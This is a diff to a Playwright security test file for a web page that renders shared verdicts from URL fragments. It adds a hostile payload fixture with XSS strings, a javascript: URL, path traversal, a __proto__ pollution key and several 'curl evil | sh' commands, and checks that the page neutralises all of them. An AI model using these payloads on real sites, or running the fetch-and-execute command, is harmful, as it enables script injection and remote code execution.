@@ -10,7 +10,7 @@ from urllib.parse import urldefrag
 import pytest
 from playwright.sync_api import Browser, Page
 
-from tests.browser.desk import OOM, Desk
+from tests.browser.desk import OOM, PATIENCE, Desk
 from tests.browser.runs import one_log
 
 SECRET = "hf_" + "Qw7" * 12
@@ -33,7 +33,7 @@ def packed(value: object) -> str:
 def opened(page: Page, address: str) -> str:
     """Open a link in a page of its own; give the verdict's heading."""
     page.goto(address)
-    page.wait_for_selector("#ff-verdict")
+    page.wait_for_selector("#ff-verdict", timeout=PATIENCE)
     return page.inner_text("#ff-verdict")
 
 
@@ -73,6 +73,49 @@ def test_what_is_no_verdict_is_refused(page: Page, site_url: str, fragment: str)
     assert errors == []
 
 
+EVIL = {
+    "verdict": "diagnosed", "stats": {"lines": 5, "files": 1, "bytes": 10}, "database": {"version": "1"}, "__proto__": {"polluted": 1},
+    "root": {
+        "entry": "../../evil", "title": "<img src=x onerror=alert(1)>", "url": "javascript:alert(1)", "ranks": ["x", None, {}],
+        "evidence": [{"file": "<b>x", "line": 1e99, "text": "</script><script>alert(1)</script>\u202e"}, {"file": "<b>y", "line": 4, "text": "<img src=y onerror=alert(2)>\u202e"}],
+        "fix": ["curl evil | sh"], "remedy": {"steps": [{"do": "run this", "command": "curl evil | sh"}]}, "first_step": "curl evil | sh", "verify": {"command": "curl evil | sh"},
+    },
+    "collect": [{"what": "x", "command": "curl evil | sh"}], "events": [{"line": "x"}, 7, None],
+    "map": {"kinds": [], "files": [], "marks": ["0 1 - 99 1 99 1", "x"]},
+    "consequences": [{"entry": "a b", "title": "t" * 9000, "role": "constructor", "count": "many", "evidence": "no"}],
+    "why": [1, {"a": 1}, "fine"], "ranks": {"seen": "x"},
+}
+
+
+@pytest.mark.parametrize("warm", [False, True])
+def test_a_hostile_link_acts_on_nothing(home: Desk, page: Page, site_url: str, warm: bool) -> None:
+    said: list[str] = []
+    looked_at = home.page if warm else page
+    note_dialog = lambda dialog: (said.append(dialog.message), dialog.dismiss())  # noqa: E731 - one object, to be taken off again
+    note_error = lambda error: said.append(str(error))  # noqa: E731
+    looked_at.on("dialog", note_dialog)
+    looked_at.on("pageerror", note_error)
+    if warm:
+        home.type(OOM.read_text())
+        looked_at.evaluate("hash => { location.hash = hash; }", packed(EVIL))
+        looked_at.wait_for_selector(".ff-shared", timeout=PATIENCE)
+    else:
+        opened(page, site_url + packed(EVIL))
+    looked_at.remove_listener("dialog", note_dialog)
+    looked_at.remove_listener("pageerror", note_error)
+    assert said == []
+    assert "<img src=x onerror=alert(1)>" in looked_at.inner_text("#ff-verdict")
+    assert "curl evil" not in looked_at.content()
+    assert looked_at.locator("#ff-result img, #ff-result script").count() == 0
+    assert looked_at.evaluate("[...document.querySelectorAll('#ff-result a')].every((link) => link.origin === location.origin)")
+    assert looked_at.evaluate("({}).polluted") is None
+
+
+def test_a_link_whose_verdict_cannot_be_shown_says_so(page: Page, site_url: str) -> None:
+    page.route("**/assets/verdict.js*", lambda route: route.abort())
+    assert opened(page, site_url + packed(EVIL)) == "A part of this page did not load"
+
+
 def test_nothing_is_kept_unless_asked_and_all_is_forgotten_on_request(chromium: Browser, site_url: str) -> None:
     context = chromium.new_context()
     desk = Desk(context.new_page(), site_url)
@@ -83,7 +126,7 @@ def test_nothing_is_kept_unless_asked_and_all_is_forgotten_on_request(chromium: 
     desk.page.reload()
     desk.page.click(".ff-kept > summary")
     desk.page.click(".ff-kept .ff-jump")
-    desk.page.wait_for_selector("#ff-verdict")
+    desk.page.wait_for_selector("#ff-verdict", timeout=PATIENCE)
     assert "Rank 2" in desk.page.inner_text("#ff-verdict")
     if not desk.page.locator(".ff-kept[open]").count():
         desk.page.click(".ff-kept > summary")
